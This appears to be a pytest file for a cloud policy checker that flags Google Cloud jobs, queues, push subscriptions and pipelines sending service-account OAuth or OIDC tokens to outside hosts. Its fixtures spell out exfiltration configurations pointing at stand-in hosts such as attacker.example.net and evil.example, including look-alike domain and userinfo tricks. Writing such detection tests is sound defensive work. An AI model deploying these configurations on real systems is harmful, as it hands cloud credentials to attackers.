"""AGID-GCP-032 over gRPC: a service account's token sent to a host outside Google's APIs (red13 r13-4: a Cloud
Scheduler job POSTing the stack account's access token to attacker.example.net, a Pub/Sub push subscription sending
an OIDC token for a Workload Identity Federation audience outside, both passed). Each case has a look-alike that
passes: the access token to a Google API, or an OIDC token for the endpoint's own URL."""

from __future__ import annotations

import pytest

from agentid.analyzer_client import PackProcess
from tests.policy.conftest import PACK
from tests.policy.pack_cases import assert_flagged_and_look_alike
from tests.policy.test_pack_grpc import urn

RULE = "AGID-GCP-032"
JOB = "gcp:cloudscheduler/job:Job"
QUEUE = "gcp:cloudtasks/queue:Queue"
SUBSCRIPTION = "gcp:pubsub/subscription:Subscription"
PIPELINE = "gcp:eventarc/pipeline:Pipeline"
UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9"
SA = "agent@acme-prod.iam.gserviceaccount.com"
WIF = "//iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/p/providers/aws"
OAUTH = {"serviceAccountEmail": SA, "scope": "https://www.googleapis.com/auth/cloud-platform"}


@pytest.fixture(scope="module")
def pack():
    with PackProcess.start(PACK, timeout=60) as running:
        yield running


def job(uri, **token):
    return {"schedule": "* * * * *", "httpTarget": {"uri": uri, "httpMethod": "POST", **token}}


def push(endpoint, audience=None):
    oidc = {"serviceAccountEmail": SA, **({"audience": audience} if audience else {})}
    return {"topic": "t", "pushConfig": {"pushEndpoint": endpoint, "oidcToken": oidc}}


def queue(host, **token):
    target = {"httpMethod": "POST", **token, **({"uriOverride": {"host": host, "scheme": "HTTPS"}} if host else {})}
    return {"location": "us-central1", "httpTarget": target}


def pipeline(uri, **auth):
    return {"location": "us-central1", "pipelineId": "p",
            "destinations": [{"httpEndpoint": {"uri": uri}, "authenticationConfig": auth}]}


CASES = {
    "job-oauth": (JOB, job("https://attacker.example.net/collect", oauthToken=OAUTH),
                  job("https://cloudbuild.googleapis.com/v1/projects/p/triggers/t:run", oauthToken=OAUTH),
                  "sends an OAuth access token (a bearer credential for everything the account may do) of a service "
                  "account to attacker.example.net"),
    "job-lookalike-host": (JOB, job("https://storage.googleapis.com.evil.example/x", oauthToken=OAUTH),
                           job("https://storage.googleapis.com/upload", oauthToken=OAUTH),
                           "storage.googleapis.com.evil.example"),
    "job-userinfo": (JOB, job("https://storage.googleapis.com@evil.example/x", oauthToken=OAUTH),
                     job("https://evil.example/x", oidcToken={"serviceAccountEmail": SA}),
                     "cannot check: httpTarget.uri is not an http(s) URL with a plain host"),
    "job-oidc-exchange": (JOB, job("https://evil.example/x", oidcToken={"serviceAccountEmail": SA,
                                                                        "audience": "sts.amazonaws.com"}),
                          job("https://evil.example/x", oidcToken={"serviceAccountEmail": SA,
                                                                   "audience": "https://evil.example/x"}),
                          "an OIDC token for sts.amazonaws.com"),
    "push-wif": (SUBSCRIPTION, push("https://collector.evil.example/push", WIF),
                 push("https://collector.evil.example/push"), "an audience a token exchange accepts"),
    "push-wif-https": (SUBSCRIPTION, push("https://x.a.run.app/push", "https://iam.googleapis.com/projects/1/x"),
                       push("https://x.a.run.app/push", "https://x.a.run.app"), "x.a.run.app"),
    "queue-oauth": (QUEUE, queue("hooks.evil.example", oauthToken=OAUTH),
                    queue("cloudfunctions.googleapis.com", oauthToken=OAUTH), "to hooks.evil.example"),
    "queue-any-task": (QUEUE, queue(None, oauthToken=OAUTH), queue(None, oidcToken={"serviceAccountEmail": SA}),
                       "httpTarget.uriOverride.host is not set, so each task names its own URL"),
    "pipeline-oauth": (PIPELINE, pipeline("https://evil.example/e", oauthToken={"serviceAccount": SA}),
                       pipeline("https://evil.example/e", googleOidc={"serviceAccount": SA}), "to evil.example"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_token_sent_outside_google_blocks_and_its_look_alike_passes(pack, case):
    type_, flagged, look_alike, text = CASES[case]
    assert_flagged_and_look_alike(pack, case, type_, flagged, RULE, "mandatory", look_alike)
    [diag] = pack.analyze(type_, case, urn(type_, case), flagged)
    assert text in diag.message, diag.message


def test_an_unknown_destination_is_cannot_check_until_known(pack):
    [diag] = pack.analyze(JOB, "u", urn(JOB, "u"), job(UNKNOWN, oauthToken=OAUTH))
    assert diag.policy_name == RULE and "until known" in diag.message and "httpTarget.uri" in diag.message
